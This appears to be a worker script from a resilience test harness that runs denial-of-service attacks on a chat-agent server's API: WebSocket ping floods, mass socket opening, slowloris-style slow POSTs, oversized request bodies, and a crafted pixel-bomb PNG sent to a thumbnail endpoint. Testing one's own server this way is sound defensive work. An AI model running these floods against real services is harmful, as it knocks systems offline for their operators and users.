import net from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import zlib from 'node:zlib'
import WebSocket from 'ws'

/*
 * One agent, or somebody without an account, who means harm; in a process of its own, so that what it does costs the
 * server and not whoever measures. It is told once what to do, and goes on until it is killed.
 */

/**
 * @typedef {{ attack: keyof typeof attacks, url: string, token: string, agentId: string }} Order
 */

const pingsInAll = 20_000
const socketsAtOnce = 300
const slowPosts = 400
const bigPosts = 100
const bigBytes = 4 * 1024 * 1024
const pictures = 4
const side = 10_000
/** Milliseconds before a connection that was cut is tried again. */
const pauseMs = 200

/** Pings sent, sockets opened, posts begun, pictures asked for. */
let done = 0

/** @param {Order} order */
const addressOf = ({ url, token, agentId }) =>
  `${url.replace('http', 'ws')}/api/v1/ws/agent/${agentId}/conversations?token=${encodeURIComponent(token)}`

/** @param {Order} order one socket after the other, as fast as it takes them */
async function pings(order) {
  for (let left = pingsInAll; left > 0; ) {
    const socket = new WebSocket(addressOf(order))
    socket.on('error', () => undefined)
    const closed = new Promise(resolve => socket.once('close', resolve))
    await Promise.race([new Promise(resolve => socket.once('open', resolve)), closed])
    while (socket.readyState === WebSocket.OPEN && left > 0) {
      for (let times = 0; times < 100; times += 1) socket.send('{"event":"ping"}')
      left -= 100
      done += 100
      await new Promise(setImmediate)
    }
    if (left <= 0) left = pingsInAll
    socket.terminate()
    await closed
  }
}

/** @param {Order} order @returns {Promise<void>} opened anew whenever it is closed */
async function openSocket(order) {
  for (;;) {
    const socket = new WebSocket(addressOf(order))
    socket.on('error', () => undefined)
    socket.once('open', () => {
      done += 1
    })
    await new Promise(resolve => socket.once('close', resolve))
    await sleep(pauseMs)
  }
}

/** @param {Order} order @param {number} no @returns {Promise<void>} */
async function slowPost({ url }, no) {
  const { hostname, port } = new URL(url)
  const path = no % 2 === 0 ? '/api/v1/auth/logout' : '/api/v1/channels/whatsapp/webhook'
  const head = [
    `POST ${path} HTTP/1.1`,
    'host: x',
    'content-type: application/json',
    `x-hub-signature-256: sha256=${'0'.repeat(64)}`,
    'content-length: 10000',
  ]
  for (;;) {
    const line = net.connect(Number(port), hostname)
    line.on('error', () => undefined)
    const closed = new Promise(resolve => line.once('close', resolve))
    line.write(`${head.join('\r\n')}\r\n\r\n{`)
    const timer = setInterval(() => line.write(' '), 1_000)
    line.resume()
    done += 1
    await closed
    clearInterval(timer)
    await sleep(pauseMs)
  }
}

const bigBody = Buffer.alloc(bigBytes, 0x20)

/** @param {Order} order @returns {Promise<void>} sends as fast as it is taken, and again when it is hung up on */
async function bigPost({ url }) {
  const { hostname, port } = new URL(url)
  const head = `POST /api/v1/channels/whatsapp/webhook HTTP/1.1\r\nhost: x\r\ncontent-length: ${bigBytes}\r\n\r\n`
  for (;;) {
    const line = net.connect(Number(port), hostname)
    line.on('error', () => undefined)
    const closed = new Promise(resolve => line.once('close', resolve))
    line.write(head)
    line.write(bigBody)
    line.resume()
    done += 1
    await closed
    await sleep(pauseMs)
  }
}

/** A white picture of so many pixels on each side, one bit each: kilobytes that claim a hundred million pixels. */
function bigPicture() {
  /** @param {string} type @param {Buffer} data */
  const chunk = (type, data) => {
    const named = Buffer.concat([Buffer.from(type), data])
    const framed = Buffer.alloc(named.length + 8)
    framed.writeUInt32BE(data.length)
    named.copy(framed, 4)
    framed.writeUInt32BE(checksum(named), named.length + 4)
    return framed
  }
  const header = Buffer.alloc(13)
  header.writeUInt32BE(side)
  header.writeUInt32BE(side, 4)
  header[8] = 1
  const rows = zlib.deflateSync(Buffer.alloc(side * (1 + side / 8)))
  return Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    chunk('IHDR', header),
    chunk('IDAT', rows),
    chunk('IEND', Buffer.alloc(0)),
  ])
}

/** CRC-32 as PNG has it. @param {Buffer} bytes */
function checksum(bytes) {
  let sum = 0xffffffff
  for (const byte of bytes) {
    sum ^= byte
    for (let bit = 0; bit < 8; bit += 1) sum = sum & 1 ? (sum >>> 1) ^ 0xedb88320 : sum >>> 1
  }
  return (sum ^ 0xffffffff) >>> 0
}

/** @param {Order} order */
async function picture({ url, token }) {
  const file = bigPicture()
  const headers = { authorization: `Bearer ${token}` }
  for (;;) {
    const body = new FormData()
    body.set('file', new Blob([new Uint8Array(file)], { type: 'image/png' }), 'big.png')
    const answer = await fetch(`${url}/api/v1/attachments/documents/upload`, {
      method: 'POST',
      headers,
      body,
    })
    const said = await answer.json()
    if (!answer.ok) {
      await sleep(pauseMs)
      continue
    }
    const shown = await fetch(`${url}/api/v1/attachments/documents/${said.id}/thumbnail`, { headers })
    await shown.arrayBuffer()
    done += 1
  }
}

/** @param {number} times @param {(no: number) => Promise<void>} work */
const together = (times, work) => Promise.all(Array.from({ length: times }, (_, no) => work(no)))

const attacks = {
  pings,
  /** @param {Order} order */
  sockets: order => together(socketsAtOnce, () => openSocket(order)),
  /** @param {Order} order */
  'slow-posts': order => together(slowPosts, no => slowPost(order, no)),
  /** @param {Order} order */
  'big-posts': order => together(bigPosts, () => bigPost(order)),
  /** @param {Order} order */
  pictures: order => together(pictures, () => picture(order)),
}

process.once('message', order => {
  const { attack } = /** @type {Order} */ (order)
  void attacks[attack](/** @type {Order} */ (order))
  setInterval(() => process.send?.(done), 500)
})
process.on('disconnect', () => process.exit(0))
